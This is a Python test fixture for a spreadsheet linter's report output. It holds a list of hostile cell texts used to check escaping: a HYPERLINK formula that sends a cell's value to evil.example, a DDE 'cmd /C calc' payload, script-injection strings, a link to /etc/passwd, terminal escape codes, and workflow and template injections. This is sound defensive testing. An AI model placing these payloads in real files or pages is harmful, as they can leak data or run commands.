"""Texts that strangers may put into a cell, and reports made of them."""

from goallint.finding import Finding, IndicatorRef, Related, Report, RuleInfo, Summary
from goallint.grid import Location
from goallint.severity import Severity

TEXTS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
    "<script>window.hit=1</script><img src=http://evil.example/x onerror=window.hit=1>",
    "\"' onmouseover=window.hit=1 x='",
    "]]></script><!-- <![CDATA[ &amp; &#60;",
    "[bold red]x[/] [link=file:///etc/passwd]y[/link]",
    "\x1b[2J\x1b]8;;http://evil.example\x1b\\x\x07\x9b31m\x00\x0b\x7f",
    "\ud800 \ufffe\uffff \u202e\u2066rtl",
    "a|b\n|c| **x** `y` ![i](http://evil.example/i.png) http://evil.example www.evil.example @someone",
    "100%\r\n::error file=x::injected",
    "${alert(1)} {{7*7}} {0}",
)
"""Formulas, HTML, XML, Rich markup, terminal codes, Markdown, workflow commands, templates."""

RULE = RuleInfo(
    "GL301",
    "vague-value",
    ("GL0301",),
    "clarity",
    Severity.WARNING,
    "指标“{name}”…",
    "写出数值",
    "没法判断",
    ("财预〔2021〕101号",),
)


def finding(text: str, number: int = 1) -> Finding:
    """A finding every text of which is `text`."""
    return Finding(
        id=RULE.id,
        name=RULE.name,
        category=RULE.category,
        severity=RULE.severity,
        message=text,
        suggestion=text,
        basis=(text,),
        path=f"区局/{text.replace('/', '_').replace(chr(0xD800), chr(0xDC80))}.txt",  # a byte that is no UTF-8
        location=Location(sheet=text, line=40 + number, row=3, column=7),
        project=text,
        unit=text,
        indicator=IndicatorRef(1, text, text),
        text=text,
        span=(0, 1),
        related=(Related("区局/另一个.xlsx", Location(sheet=text, row=4), text),),
        fingerprint=f"{number:016x}",
    )


def report(*findings: Finding) -> Report:
    """A report of these findings, by one rule."""
    files = tuple(dict.fromkeys(one.path for one in findings))
    return Report(findings, Summary(len(files), len(files), 1, 1), (RULE,), files)


HOSTILE = report(*(finding(text, number) for number, text in enumerate(TEXTS)))
"""One finding a text."""
